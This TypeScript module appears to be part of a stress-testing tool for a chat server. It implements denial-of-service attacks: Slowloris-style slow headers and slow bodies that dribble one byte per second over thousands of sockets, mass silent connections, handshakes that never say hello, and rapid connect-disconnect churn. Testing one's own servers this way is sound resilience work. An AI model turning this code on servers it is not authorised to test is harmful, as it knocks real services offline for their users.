/** Attacks by slow, silent or many connections. */
import { HANDSHAKE, keep, Peer, type Target, UPGRADE } from "../peer.ts";
import type { Tally } from "../tally.ts";

const BYTE_INTERVAL_MS = 1000;

/** Sends one byte of `text` per second on each socket, spread evenly over the second. */
function dribble(peers: ReadonlySet<Peer>, text: string): void {
  const slices = 20;
  let tick = 0;
  setInterval(() => {
    const byte = text[Math.floor(tick / slices) % text.length]!;
    let i = 0;
    for (const { socket } of peers) if (i++ % slices === tick % slices && socket.writable) socket.write(byte);
    tick++;
  }, BYTE_INTERVAL_MS / slices);
}

/** Handshakes that never end. */
export function slowHeaders(target: Target, tally: Tally, scale: number): void {
  const peers = keep(2000 * scale, 1000, (index) => {
    tally.tried("handshakes begun");
    return new Peer(target, index, tally, `${UPGRADE}\r\nX-Slow: `);
  });
  dribble(peers, "x");
}

/** Bodies that never end. */
export function slowBodies(target: Target, tally: Tally, scale: number): void {
  const head = "Host: attacked\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n";
  const peers = keep(2000 * scale, 1000, (index) => {
    tally.tried("requests begun");
    const request = index % 2 === 0 ? "POST /v1/rooms/slow/messages" : "PUT /v1/rooms/slow";
    return new Peer(target, index, tally, `${request} HTTP/1.1\r\n${head}{"message":"`);
  });
  dribble(peers, "x");
}

/** Connections that send no byte. */
export function silentSockets(target: Target, tally: Tally, scale: number): void {
  keep(10_000 * scale, 4000, (index) => {
    tally.tried("sockets");
    return new Peer(target, index, tally, "");
  });
}

/** Handshakes without a hello. */
export function silentClients(target: Target, tally: Tally, scale: number): void {
  keep(3000 * scale, 1000, (index) => {
    tally.tried("handshakes");
    return new Peer(target, index, tally, HANDSHAKE, () => tally.answered("HTTP 101"));
  });
}

/** Handshakes, each followed by a disconnect. */
export function churn(target: Target, tally: Tally, scale: number): void {
  keep(200 * scale, 20_000, (index) => {
    tally.tried("handshakes");
    const peer = new Peer(target, index, tally, HANDSHAKE, () => {
      tally.answered("HTTP 101");
      peer.socket.destroy();
    });
    return peer;
  });
}
